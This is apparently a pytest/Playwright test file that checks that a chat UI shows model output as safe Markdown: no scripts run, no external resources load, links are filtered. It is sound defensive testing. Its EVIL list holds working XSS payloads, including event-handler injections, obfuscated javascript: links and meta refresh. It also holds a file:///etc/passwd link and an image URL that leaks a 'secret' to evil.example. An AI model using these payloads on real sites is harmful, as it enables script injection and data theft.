"""What a model writes is shown as Markdown, and nothing of it runs or is loaded."""

from __future__ import annotations

import re

import pytest
from page_actions import answer_with, answered, ask, finished, say

EVIL = [
    "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>",
    "<svg onload=alert(1)><style>*{display:none}</style><iframe src=http://evil.example></iframe>",
    "![x](http://evil.example/pixel.png?said=secret) ![y](//evil.example/y.png) ![z](data:image/svg+xml,<svg/>)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)",
    "[e](&#106;avascript:alert(1)) <javascript:alert(1)> [f](\x01javascript:alert(1)) [g](file:///etc/passwd)",
    "[h](/v1/models) [i](#top) [j][k]\n\n[k]: javascript:alert(1) 'title'",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "| <b>x</b> | [t](javascript:alert(1)) |\n| --- | --- |\n| <script>alert(1)</script> | &lt;script&gt; |",
    '[l](http://evil.example/"onmouseover="alert(1)) [m](https://good.example "\\" onclick=alert(1)")',
    "<a href='http://evil.example' ping='http://evil.example'>n</a> <http://good.example/?q=<b>>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'> <base href=http://evil.example>",
]
_ALLOWED = (
    "a, blockquote, br, button, code, details, div, em, h3, h4, h5, h6, hr, li, mark, ol, p, pre, s, span, strong, "
    "summary, table, tbody, td, th, thead, tr, ul"
)


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_that_a_model_writes_runs_or_is_fetched(open_page, evil):
    page = open_page()  # which fails on any request to elsewhere, and on any report of the policy
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    answer_with(page, answered(evil, thought=evil, calls=((evil, evil),)))
    say(page, evil)
    page.locator("summary >> nth=1").click()
    page.locator("mark").first.hover()
    page.click("button:text('Tokens')")
    page.click("button:text('Tokens')")
    found = page.evaluate(
        """allowed => [...document.querySelectorAll('.answer *, .said *, #tip *')].map(e => ({
          name: e.localName, known: e.matches(allowed),
          on: [...e.attributes].filter(a => a.name.startsWith('on') || a.name === 'src' || a.name === 'ping').length,
          link: e.getAttribute('href') }))""",
        _ALLOWED,
    )
    assert found
    assert all(element["known"] and not element["on"] for element in found)
    links = {element["link"] for element in found} - {None}
    assert all(re.match(r"https?://", link) for link in links), links
    assert all(link.get_attribute("rel") == "noopener noreferrer" for link in page.locator(".answer a[href]").all())
    assert page.title() == "tiny – outrider"


def test_what_a_model_completes_stays_text(open_page, drafted, served_llm, monkeypatch):  # noqa: ARG001
    evil = EVIL[0]
    monkeypatch.setattr(served_llm.tokenizer, "piece", lambda _token, **_: evil.encode())
    page = open_page()
    ask(page, prompt=evil + "abab" * 10, tokens=12, drafting="both")
    assert page.locator(".answer").first.inner_text() == evil * 12
    assert page.locator(".said").inner_text() == evil + "abab" * 10
    page.locator("mark").first.hover()
    assert page.locator("#tip").is_visible()
    assert page.locator("#log img, #log script, #tip *").count() == 0
    assert page.title() == "tiny – outrider"


SAMPLE = """# Title *here*

Some **bold** and `code`, 1 \\* 2 &amp; 3.

1. 1 apple
2. two

   ```py
   if a:
       b = "<b>"
   ```

- x
  - y

| a | b |
|---|--:|
| 1 | `2` |

> quoted
> twice [link][l] ![picture](http://evil.example/x.png)

~~gone~~ <b>html</b>
and a second line

***

It is so *so* so so *so*, at <https://good.example/>.

[l]: https://good.example/page
"""


def test_markdown_becomes_elements(open_page):
    page = open_page()
    answer_with(page, answered(SAMPLE))
    say(page, "show")
    text = page.locator(".markdown")
    assert text.locator("h3").inner_text() == "Title here"
    assert text.locator("strong").inner_text() == "bold"
    assert text.locator("pre").inner_text() == 'if a:\n    b = "<b>"\n'
    assert text.locator(".code-head").inner_text().split() == ["py", "Copy"]
    assert text.locator("td.right code").inner_text() == "2"
    assert text.locator("th").first.get_attribute("scope") == "col"
    assert text.locator("s").inner_text() == "gone"
    links = {link.inner_text(): link.get_attribute("href") for link in text.locator("a").all()}
    assert links == {
        "link": "https://good.example/page",
        "image: picture": "http://evil.example/x.png",
        "https://good.example/": "https://good.example/",
    }
    assert "1 * 2 & 3." in text.inner_text()
    assert "<b>html</b>" in text.inner_text()


def test_code_can_be_copied(open_page):
    page = open_page()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer_with(page, answered(SAMPLE))
    say(page, "show")
    page.click("[aria-label='Copy code']")
    assert page.evaluate("navigator.clipboard.readText()") == 'if a:\n    b = "<b>"\n'
    page.click("[aria-label='Copy answer']")
    assert page.evaluate("navigator.clipboard.readText()") == SAMPLE


_DRAW = """async ([text, sizes, whole]) => {
  const { Answer } = await import("/page/answer.js");
  const { MarkdownView } = await import("/page/markdown.js");
  const { nodesOf } = await import("/page/marks.js");
  const answer = new Answer(true);
  const box = document.createElement("div");
  let view = null;
  for (let at = 0, i = 0; at < text.length; i += 1) {
    const token = text.slice(at, at + sizes[i % sizes.length]);
    at += token.length;
    answer.add({
      choices: [{ delta: { content: token }, finish_reason: null }],
      outrider: { token_ids: [i], texts: [token], sources: [`${i}`], rejected_texts: [null] },
    });
    view ??= new MarkdownView(box, (start, end) => nodesOf(answer, answer.parts[0], start, end));
    if (!whole) view.update(answer.parts[0].text);
  }
  view.finish(text);
  const marks = [...box.querySelectorAll("mark")];
  return {
    html: box.innerHTML,
    text: box.textContent,
    wrong: marks.filter(m => !answer.tokens[m.dataset.source].text.includes(m.textContent)).map(m => m.outerHTML),
    order: marks.map(m => Number(m.dataset.source)),
    marked: marks.reduce((sum, m) => sum + m.textContent.trim().length, 0),
  };
}"""


@pytest.mark.parametrize("sizes", [[1], [2, 5, 3], [7], [40], [100_000]])
def test_every_token_is_marked_where_its_text_is_and_growing_changes_nothing(open_page, sizes):
    page = open_page()
    grown = page.evaluate(_DRAW, [SAMPLE, sizes, False])
    whole = page.evaluate(_DRAW, [SAMPLE, sizes, True])
    assert grown == whole
    assert grown["wrong"] == []
    assert grown["order"] == sorted(grown["order"])
    # All letters but those of an escape, an entity, an image's name and a button.
    assert grown["marked"] > 0.8 * len("".join(grown["text"].split())) - len("Copy" + "image: picture")


@pytest.mark.parametrize(
    "text", ["[" * 20_000, ">" * 5_000 + " x", "*a " * 10_000, "`" * 9_999 + " " + "`" * 9_998, "- " * 3_000]
)
def test_a_text_made_to_take_long_is_shown(open_page, text):
    page = open_page()
    drawn = page.evaluate(_DRAW, [text, [1000], True])
    assert drawn["html"]


def test_a_selection_in_finished_blocks_survives_growth(open_page, served_llm, slow):  # noqa: ARG001
    page = open_page()
    kept = page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/page/markdown.js");
          const box = document.createElement("div");
          const view = new MarkdownView(box, (start, end) => document.createTextNode(source.slice(start, end)));
          let source = "first\\n\\nsecond";
          view.update(source);
          const first = box.firstChild;
          source += " goes on\\n\\n| a |\\n| - |";
          view.update(source);
          return [box.firstChild === first, box.textContent];
        }"""
    )
    assert kept == [True, "firstsecond goes ona"]


def test_tokens_of_a_thought_are_told_from_those_of_the_text(open_page):
    page = open_page()
    # The thought begins as its label does, and the text as the thought does.
    answer_with(page, answered("th th text", thought="th thought th"))
    say(page, "show")
    finished(page)
    page.locator("details.thought summary").click()
    assert page.locator(".thought mark").all_inner_texts() == [" thought"]
    assert page.locator(".answer > .markdown mark").all_inner_texts() == [" th"]
